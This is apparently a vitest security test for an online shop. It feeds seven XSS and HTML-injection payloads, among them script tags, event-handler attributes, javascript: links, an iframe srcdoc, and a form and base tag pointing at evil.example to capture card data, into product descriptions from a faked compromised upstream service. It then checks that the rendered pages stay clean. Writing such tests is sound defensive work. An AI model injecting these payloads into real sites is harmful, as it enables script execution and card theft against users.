// Markup in a description from a compromised products service reaches no page.
import { expect, test } from 'vitest'
import { productCalls } from '#shared/products/product-calls.ts'
import { openShop } from '#tests/support/open-shop.ts'

const attacks = [
  '<p>Soft.</p><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<p onmouseover="alert(1)" style="position:fixed">x</p>',
  '</div></details></main><form action="https://evil.example"><input name="card"></form>',
  '<a href="javascript:alert(1)">x</a><iframe srcdoc="<script>1</script>"></iframe>',
  '<svg><p><style><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>--><base href="https://evil.example">',
]

const path = `${productCalls.list.path}?baseproducts=AB123`

test.each(attacks)('%s in a description never reaches a page', async (attack) => {
  const honest = await (await openShop()).fetch(path)
  const { products } = (await honest.json()) as { products: object[] }
  const taken = () => Response.json({ products: products.map((product) => ({ ...product, description: attack })) })
  const shop = await openShop({
    stand: (_, upstreamPath) => (upstreamPath === productCalls.list.path ? taken() : undefined),
  })

  const reply = (await (await shop.fetch(path)).json()) as { products: { description: string }[] }
  expect(reply.products[0]!.description.match(/<(?!\/?(?:p|ul|ol|li|strong|em|br)>)/g)).toBeNull()
  const page = await (await shop.fetch('/shop/p/AB123', { headers: { 'user-agent': 'Examplebot/1.0' } })).text()
  const drawn = page.replace(/<script id="state".*?<\/script>/s, '')
  expect(drawn.includes('Description</h2>')).toBe(true)
  expect(
    /<img src=x|onerror=alert|onmouseover|<form action="https:\/\/evil|<base|<iframe|javascript:alert|<script>alert/.exec(
      drawn,
    ),
  ).toBeNull()
  await shop.idle()
})
